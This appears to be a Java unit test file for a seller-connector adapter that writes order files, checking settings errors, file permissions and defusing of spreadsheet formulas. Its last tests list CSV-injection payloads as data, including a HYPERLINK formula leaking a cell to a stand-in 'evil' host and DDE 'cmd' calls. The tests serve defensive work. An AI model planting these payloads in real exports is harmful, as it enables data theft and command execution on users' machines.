package io.sellerconnector.adapter.file;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sellerconnector.adapter.AdapterMisconfigured;
import io.sellerconnector.adapter.AdapterSettings;
import io.sellerconnector.adapter.SellerAdapter;
import io.sellerconnector.adapter.SellerAdapterProvider;
import io.sellerconnector.adapter.kit.AdapterContract;
import io.sellerconnector.adapter.order.HandOverAnswer;
import io.sellerconnector.adapter.order.OrderCancellation;
import io.sellerconnector.adapter.order.OrderFact;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.HashMap;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FilesAdapterTests extends AdapterContract {

  @TempDir Path folder;

  @Override
  protected SellerAdapterProvider provider() {
    return new FilesAdapterProvider();
  }

  @Override
  protected AdapterSettings settings() {
    return settings(Map.of("folder", folder.toString()));
  }

  private static AdapterSettings settings(Map<String, String> values) {
    return new AdapterSettings("connector.adapters.files", values);
  }

  @Test
  void handsOverAndNothingElse() {
    try (SellerAdapter adapter = provider().open(settings(), clock())) {
      assertThat(adapter.orderSystem()).isNotNull();
      assertThat(adapter.inventory()).isNull();
    }
  }

  @Test
  void startsWithoutTheFolderThatMayBeMountedLater() {
    AdapterSettings later = settings(Map.of("folder", folder.resolve("share").toString()));
    provider().open(later, clock()).close();
    assertThat(folder.resolve("share")).doesNotExist();
  }

  @Test
  void refusesAnUnknownFormatAndAMisspelledSetting() {
    assertThatThrownBy(
            () -> provider().open(settings(Map.of("folder", "x", "format", "xml")), clock()))
        .isInstanceOf(AdapterMisconfigured.class)
        .hasMessage("connector.adapters.files.format is \"xml\"; write json or csv");
    assertThatThrownBy(
            () -> provider().open(settings(Map.of("folder", "x", "fromat", "csv")), clock()))
        .isInstanceOf(AdapterMisconfigured.class)
        .hasMessageContaining("fromat");
  }

  @Test
  void writesFilesThatOnlyTheirOwnerAndItsGroupCanRead() throws IOException {
    assertThat(permissionsWith(Map.of())).isEqualTo("rw-r-----");
  }

  @Test
  void writesFilesWithThePermissionsThatAreAskedFor() throws IOException {
    assertThat(permissionsWith(Map.of("permissions", "rw-------"))).isEqualTo("rw-------");
    assertThatThrownBy(
            () -> provider().open(settings(Map.of("folder", "x", "permissions", "416")), clock()))
        .isInstanceOf(AdapterMisconfigured.class)
        .hasMessage(
            "connector.adapters.files.permissions is \"416\"; write them as ls shows them, such as"
                + " rw-r-----");
  }

  private String permissionsWith(Map<String, String> more) throws IOException {
    Map<String, String> values = new HashMap<>(more);
    values.put("folder", folder.toString());
    takeOne(values);
    return PosixFilePermissions.toString(
        Files.getPosixFilePermissions(folder.resolve("A-1_0001_placed." + formatOf(values))));
  }

  private static String formatOf(Map<String, String> values) {
    return values.getOrDefault("format", "json");
  }

  private void takeOne(Map<String, String> values) {
    try (SellerAdapter adapter = provider().open(settings(values), clock())) {
      assertThat(
              Objects.requireNonNull(adapter.orderSystem()).take(Samples.placed(), Samples.soon()))
          .isInstanceOf(HandOverAnswer.Taken.class);
    }
  }

  @Test
  void keepsFormulasOnlyWhereThatIsAskedFor() throws IOException {
    assertThat(new String(new CsvForm(false).write(called("=1+1")), UTF_8)).contains(",'=1+1,");
    assertThat(new String(new CsvForm(true).write(called("=1+1")), UTF_8)).contains(",=1+1,");

    assertThatThrownBy(() ->
            provider()
                .open(settings(Map.of("folder", "x", "format", "csv", "formulas", "no")), clock()))
        .isInstanceOf(AdapterMisconfigured.class)
        .hasMessage("connector.adapters.files.formulas is \"no\"; write disarm or keep");
  }

  /** An order that was cancelled with these words. */
  private static OrderNotice called(String words) {
    return new OrderNotice.Told(
        new OrderFact.Cancelled(
            "A-1:3",
            Samples.AT,
            Samples.placed().order(),
            new OrderCancellation(false, words, "r-1", Samples.AT, true)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil/?\"&A1)",
        "@SUM(1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "＝1+1",
        "＋1",
      })
  void putsAnApostropheBeforeAFormula(String text) {
    assertThat(Formulas.disarmed(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", "Ana", "a=b", "+55 11 99999-0000", "+55 (11) 99999", "-34.9", "-1.00", "{}"})
  void leavesOtherTextsAndNumbersAlone(String text) {
    assertThat(Formulas.disarmed(text)).isEqualTo(text);
  }
}
